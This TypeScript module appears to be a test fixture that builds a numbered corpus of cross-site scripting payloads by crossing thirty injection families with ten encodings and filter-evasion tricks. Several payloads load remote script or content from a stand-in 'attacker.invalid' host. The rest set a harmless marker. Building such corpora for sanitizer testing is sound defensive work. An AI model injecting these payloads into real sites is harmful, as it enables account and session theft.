/** Script injections that have worked in browsers; each would set `window.__ran`, or send a request to this host. */
export const attackerHost = 'attacker.invalid';

const run = 'window.__ran=1';

const families: readonly string[] = [
  `<script>${run}</script>`,
  `<script src=//${attackerHost}/x.js></script>`,
  `<img src=x onerror=${run}>`,
  `<img src=//${attackerHost}/x.png>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<math><a xlink:href=javascript:${run}>x`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<iframe src=javascript:${run}>`,
  `<object data=//${attackerHost}/x>`,
  `<embed src=javascript:${run}>`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`,
  `<video><source onerror=${run}>`,
  `<a href="javascript:${run}">x</a>`,
  `javascript:${run}//`,
  `data:text/html,<script>${run}</script>`,
  `<link rel=stylesheet href=//${attackerHost}/x.css>`,
  `<style>@import'//${attackerHost}/x.css';</style>`,
  `<meta http-equiv=refresh content="0;javascript:${run}">`,
  `<base href=//${attackerHost}/>`,
  `<form action=//${attackerHost}><button autofocus>`,
  `"><img src=x onerror=${run}>`,
  `'-${run}-'`,
  `</textarea><img src=x onerror=${run}>`,
  `</script><script>${run}</script>`,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `<!--><img src=x onerror=${run}>-->`,
];

const encodings: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => payload.toUpperCase().replace('WINDOW.__RAN', 'window.__ran'),
  (payload) => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (payload) => payload.replaceAll('<', '&#x3c;').replaceAll('>', '&#62'),
  (payload) => encodeURIComponent(payload),
  (payload) => payload.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (payload) => payload.replaceAll('<', '＜').replaceAll('>', '＞'),
  (payload) => payload.replaceAll('script', 'scr<script>ipt'),
  (payload) => payload.replaceAll(' ', '/'),
  (payload) => `\u202e${payload}\u200b`,
];

/** Families × encodings, each prefixed with a number that identifies it. */
export const scriptPayloads: readonly string[] = encodings
  .flatMap((encode) => families.map(encode))
  .map((payload, index) => `${index} ${payload}`);
